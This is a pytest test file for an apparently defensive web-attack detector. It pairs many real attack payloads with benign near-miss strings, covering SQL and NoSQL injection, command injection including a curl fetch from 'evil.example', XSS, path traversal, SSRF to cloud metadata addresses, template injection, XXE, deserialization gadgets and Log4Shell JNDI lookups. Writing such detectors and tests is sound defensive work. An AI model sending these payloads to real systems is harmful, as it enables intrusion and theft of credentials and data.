"""Each detector: true positives (exact category and rule id) and near-miss benign strings."""

import time

import pytest

from faasguard.guard import detect
from faasguard.guard.detectors import DETECTORS
from faasguard.guard.detectors.ssrf import classify_host, parse_ip


def _ids(text: str) -> set[tuple[str, str]]:
    return {(d.category, d.rule_id) for d in detect(text)}


@pytest.mark.parametrize(("payload", "expected"), [
    ("' or 'a'='a", ("sqli", "FG-SQLI-003")),
    ("admin'--", ("sqli", "FG-SQLI-011")),
    ("1 union select username, password from users", ("sqli", "FG-SQLI-001")),
    ("1/**/UNION/**/SELECT/**/1,2", ("sqli", "FG-SQLI-001")),
    ("1; drop table users", ("sqli", "FG-SQLI-004")),
    ("1 and sleep(5)", ("sqli", "FG-SQLI-005")),
    (" ORDER BY 12#", ("sqli", "FG-SQLI-028")),
    ("%27%20or%201%3D1", ("sqli", "FG-SQLI-003")),
    ("'; exec master..xp_cmdshell 'dir'--", ("sqli", "FG-SQLI-019")),
    ('{"username": {"$ne": null}, "password": {"$ne": null}}', ("nosqli", "FG-NOSQL-001")),
    ("username[$ne]=toto&password[$regex]=.*", ("nosqli", "FG-NOSQL-001")),
    ("';return true;var x='", ("nosqli", "FG-NOSQL-002")),
    ("; cat /etc/passwd", ("cmdi", "FG-CMDI-001")),
    ("| whoami", ("cmdi", "FG-CMDI-001")),
    ("a;id|", ("cmdi", "FG-CMDI-001")),
    ("w'h'o'am'i", ("cmdi", "FG-CMDI-001")),
    ("$(curl http://evil.example/x.sh)", ("cmdi", "FG-CMDI-001")),
    ("& ping -n 30 127.0.0.1 &", ("cmdi", "FG-CMDI-001")),
    ("<script>alert(1)</script>", ("xss", "FG-XSS-001")),
    ("<img src=x onerror=alert(1)>", ("xss", "FG-XSS-002")),
    ('<a href="javascript:alert(1)">x</a>', ("xss", "FG-XSS-003")),
    ("<IMG SRC=jAvAsCrIpT:alert('XSS')>", ("xss", "FG-XSS-003")),
    ("../../../../etc/passwd", ("path_traversal", "FG-PATH-001")),
    ("..%2f..%2f..%2fetc%2fpasswd", ("path_traversal", "FG-PATH-001")),
    ("%252e%252e%252fetc%252fpasswd", ("path_traversal", "FG-PATH-001")),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", ("path_traversal", "FG-PATH-001")),
    ("..%u2215..%u2215boot.ini", ("path_traversal", "FG-PATH-001")),
    ("..\\..\\windows\\win.ini", ("path_traversal", "FG-PATH-001")),
    ("http://169.254.169.254/latest/meta-data/", ("ssrf", "FG-SSRF-001")),
    ("http://2852039166/", ("ssrf", "FG-SSRF-001")),
    ("http://0xA9FEA9FE/", ("ssrf", "FG-SSRF-001")),
    ("http://0251.0376.0251.0376/", ("ssrf", "FG-SSRF-001")),
    ("http://[fd00:ec2::254]/latest/", ("ssrf", "FG-SSRF-001")),
    ("http://[::ffff:a9fe:a9fe]/", ("ssrf", "FG-SSRF-001")),
    ("http://169.254.169.254.nip.io/", ("ssrf", "FG-SSRF-001")),
    ("http://localhost:8080/admin", ("ssrf", "FG-SSRF-001")),
    ("dict://example.org:11211/stat", ("ssrf", "FG-SSRF-002")),
    ("{{7*7}}", ("ssti", "FG-SSTI-001")),
    ("{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", ("ssti", "FG-SSTI-001")),
    ('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
     ("xxe", "FG-XXE-001")),
    ("cos\nsystem\n(S'id'\ntR.", ("deserialization", "FG-DESER-001")),
    ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", ("deserialization", "FG-DESER-001")),
    ('{"py/object": "os.system"}', ("deserialization", "FG-DESER-002")),
    ("!!python/object/apply:os.system ['id']", ("deserialization", "FG-DESER-003")),
    ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", ("deserialization", "FG-DESER-004")),
    ('O:8:"stdClass":1:{s:1:"a";i:2;}', ("deserialization", "FG-DESER-005")),
    ("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", ("deserialization", "FG-DESER-007")),
    ("${jndi:ldap://evil.example/a}", ("jndi", "FG-JNDI-001")),
    ("${${lower:j}ndi:${lower:l}dap://x/a}", ("jndi", "FG-JNDI-001")),
    ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", ("jndi", "FG-JNDI-001")),
    ("{,ifconfig}", ("cmdi", "FG-CMDI-011")),
    (":(){:|:&};:", ("cmdi", "FG-CMDI-007")),
    ("\r\nRCPT TO:<Postmaster>", ("cmdi", "FG-CMDI-010")),
    ("| phpinfo()", ("cmdi", "FG-CMDI-004")),
    ("dir+c:\\", ("cmdi", "FG-CMDI-008")),
    ("'wh'oami", ("cmdi", "FG-CMDI-001")),
    ("type %SYSTEMROOT%\\repair\\SYSTEM", ("cmdi", "FG-CMDI-007")),
    ("ansible all -m ping", ("cmdi", "FG-CMDI-008")),
    ("http://7147006462/", ("ssrf", "FG-SSRF-001")),
    ("localhost4/", ("ssrf", "FG-SSRF-004")),
    ("http://127.0.0.1/2018-06-01/runtime/invocation/next", ("ssrf", "FG-SSRF-001")),
    ("/2018-06-01/runtime/invocation/next", ("ssrf", "FG-SSRF-005")),
    ("${{<%[%'\"}}%\\.", ("ssti", "FG-SSTI-003")),
    ("{{7*'7'}}", ("ssti", "FG-SSTI-001")),
    ("onMouseOver", ("xss", "FG-XSS-008")),
    ("Test/1.0 (compatible; onload=alert(document.domain))", ("xss", "FG-XSS-009")),
    ("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", ("xss", "FG-XSS-010")),
    ("console.info(1)", ("deserialization", "FG-DESER-007")),
    ("(select id from users limit 1,1)", ("sqli", "FG-SQLI-031")),
    ("unistr(password)::int", ("sqli", "FG-SQLI-019")),
    ('<?xml version="1.0"?><root><a probe=";ps"></a></root>', ("cmdi", "FG-CMDI-001")),
    ("/etc/my.cnf", ("path_traversal", "FG-PATH-005")),
    ("/C:\\Program Files\\", ("path_traversal", "FG-PATH-005")),
    ("/.bash_profile", ("path_traversal", "FG-PATH-004")),
    ("top[/al/.source+/ert/.source](1)", ("xss", "FG-XSS-007")),
    ("[1].find(alert)", ("xss", "FG-XSS-007")),
    ('"autofocus/onfocus=alert(1)//', ("xss", "FG-XSS-009")),
    ('<label dataformatas="html" datasrc="#xss" datafld="payload"></label>', ("xss", "FG-XSS-011")),
    ("<body>", ("xss", "FG-XSS-001")),
    ("z'or email notnull--", ("sqli", "FG-SQLI-010")),
    ("1%0Aand current_user=notthere()", ("sqli", "FG-SQLI-020")),
    ("ALTER TABLE `mass_mails` CHANGE `a` `b` TEXT", ("sqli", "FG-SQLI-037")),
    # SSRF: intranet names, parser confusions, IPv6 spellings carrying IPv4
    ("http://redis:6379/", ("ssrf", "FG-SSRF-001")),
    ("http://127\u30020\u30020\u30021/", ("ssrf", "FG-SSRF-001")),
    ("http://[64:ff9b::a9fe:a9fe]/latest/", ("ssrf", "FG-SSRF-001")),
    ("http://[::127.0.0.1]/", ("ssrf", "FG-SSRF-001")),
    ("http://[2002:7f00:1::]/", ("ssrf", "FG-SSRF-001")),
    ("http://kubernetes.default.svc/api", ("ssrf", "FG-SSRF-001")),
    ("http://localtest.me/", ("ssrf", "FG-SSRF-001")),
    ("http:/2852039166", ("ssrf", "FG-SSRF-001")),
    ("//127.0.0.1/admin", ("ssrf", "FG-SSRF-001")),
    ("\\\\10.0.0.5\\share", ("ssrf", "FG-SSRF-001")),
    ("http://open.example/redir-http-169.254.169.254:80-", ("ssrf", "FG-SSRF-003")),
    # template control tags
    ("{% endfor %}", ("ssti", "FG-SSTI-004")),
    ('{math equation="x*y" x=2 y=3}', ("ssti", "FG-SSTI-004")),
    ("{{#each items}}{{/each}}", ("ssti", "FG-SSTI-004")),
    ('{var $x="poc"}{$x}', ("ssti", "FG-SSTI-004")),
    # deserialization: typed JSON, XStream, Ruby, hex Java stream
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url": "jdbc:h2:mem:"}]',
     ("deserialization", "FG-DESER-009")),
    ("<java.util.PriorityQueue serialization='custom'/>", ("deserialization", "FG-DESER-009")),
    ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
     ("deserialization", "FG-DESER-009")),
    ('{"json_class": "ERB", "src": "system(1)"}', ("deserialization", "FG-DESER-008")),
    ("aced00057372001b6a6176612e", ("deserialization", "FG-DESER-004")),
    # command injection after the value the application expected, and newline injection
    ("1;echo hello", ("cmdi", "FG-CMDI-001")),
    ("127.0.0.1|ps aux", ("cmdi", "FG-CMDI-001")),
    ("1&id", ("cmdi", "FG-CMDI-001")),
    ("foo\nls -la", ("cmdi", "FG-CMDI-001")),
    ("\nid", ("cmdi", "FG-CMDI-001")),
    ("x';python3 -c 'import os'", ("cmdi", "FG-CMDI-001")),
    ("\r\na001 EXAMINE INBOX", ("cmdi", "FG-CMDI-010")),
    ('ksh -c "id"', ("cmdi", "FG-CMDI-007")),
    # SQL written with words only
    ("or 88", ("sqli", "FG-SQLI-039")),
    (" OR x=x", ("sqli", "FG-SQLI-040")),
    ("1*1--", ("sqli", "FG-SQLI-041")),
    ("1 and 1 not between 0 and 1", ("sqli", "FG-SQLI-020")),
    ("id'not like id--", ("sqli", "FG-SQLI-013")),
    ("aa'or column*column!='0", ("sqli", "FG-SQLI-010")),
])
def test_true_positive(payload: str, expected: tuple[str, str]) -> None:
    assert expected in _ids(payload)


@pytest.mark.parametrize("text", [
    "O'Brien", "Please select one item from the list", "It's 5 o'clock; dinner is at 6",
    "my.file.name.v2.tar.gz", "https://www.example.com/path?q=1&x=2", "Tom & Jerry", "Wait... what?",
    "I'd say 1 or 2 items", 'He said "hello" and left', "rock 'n' roll", "SELECT your seat from the map",
    "The price is $5 or less", "C:\\Users\\Bob\\Documents\\report.docx", "10.0.0.5", "{{ name }}",
    "${AWS::Region}", "a < b and c > d", "Use `git status` to check", "uploads/2024/report (final).pdf",
    "1950 or 1960", "Q&A: why?", "#1 best seller", "cat food; dog food", "echo chamber",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "https://api.stripe.com/v1/charges", "7\" #2 CIRCULAR NEEDLE", "4'+X+4'+WOOD",
    "Redirected to /dev/null, oh no, it's full...", "id",
    "I'd give it 4/5 -- Gordon's opinion; \"id\" & more.", "java developer", "python tutorial", "onboarding",
    "Call me on 555-0100 & ask for Bob", "Mozilla/5.0 (iPod; U; CPU iPhone OS 4_0 like Mac OS X; om-ET)",
    "http://ju.kr/posts/search?nacional=suite", "L'avantage d'atteindre vos buts", "zbyr84@example.net",
    "/home/bob/photos/cat.jpg", "logs are rotated daily", "Update user settings", "Drop me a line",
    "<b>bold</b> and <i>italic</i>", "top [10] songs", "Price: $(5.00)",
    "//cdn.example.com/app.js", "http://www.example.org/x?a=1", "HKLM:\\Software\\Vendor", "qJ&oD9x",
    "hello; time he came", "Hi,\nwho are you", "Black or white", "or else", "2020-10-05 -- notes",
    "'Tis the season", '["red", "green"]', "see java.util.List in the docs", "Hello {{name}}", "price {5}",
    "I'd rather not", "Larry Morgan", "1950 and 1960", "Glorieta de Toño Pineda 6 Piso 4 \nAlmería, 09400",
    "ayselcaspar@example.com",
])
def test_near_miss_benign(text: str) -> None:
    assert detect(text) == []


def test_detection_fields() -> None:
    [d] = detect("<script>alert(1)</script>")
    assert (d.category, d.rule_id, d.field, d.severity) == ("xss", "FG-XSS-001", "", "high")
    assert d.excerpt == "<script>alert(1)</script>"


@pytest.mark.parametrize(("host", "reason"), [
    ("169.254.169.254", "a cloud metadata endpoint"),
    ("2852039166", "a cloud metadata endpoint"),
    ("0xa9.0xfe.0xa9.0xfe", "a cloud metadata endpoint"),
    ("0177.1", "loopback"),
    ("[::1]", "an internal host name"),
    ("10.1.2.3", "a private address"),
    ("425.510.425.510", "an obfuscated numeric address"),
    ("example.com", None),
    ("8.8.8.8", None),
])
def test_classify_host(host: str, reason: str | None) -> None:
    assert classify_host(host) == reason


def test_parse_ip_short_forms() -> None:
    assert str(parse_ip("127.1")) == "127.0.0.1"
    assert str(parse_ip("0x7f000001")) == "127.0.0.1"
    assert parse_ip("1.2.3.4.5") is None


@pytest.mark.parametrize("pattern", [
    "'" * 20000, "(" * 20000, "<" * 20000 + "a", "%" * 20000, "../" * 8000, "${" * 10000, "{{" * 10000,
    "a" * 30000 + "'", "/*" * 10000, "\\" * 20000, "&#" * 10000, "; " * 10000, "http://" + "a@" * 10000,
    "1 or " * 5000, "<a " + "onx=1 " * 5000, "`" * 20000, "$(" * 10000, "O:1:\"" * 5000,
    "ls " + "-a " * 90 + "!", "(S'" * 5000, "powershell " * 3000, "{a," * 8000, "..;/" * 5000,
    "\x80\x04" * 5000, "%c0%ae" * 5000, "eyJ" * 8000, "a'" * 10000, "--" * 10000,
])
def test_linear_time_on_adversarial_input(pattern: str) -> None:
    start = time.perf_counter()
    for name, detector in DETECTORS.items():
        t0 = time.perf_counter()
        detector(pattern)
        assert time.perf_counter() - t0 < 1.0, name
    detect(pattern)
    assert time.perf_counter() - start < 3.0
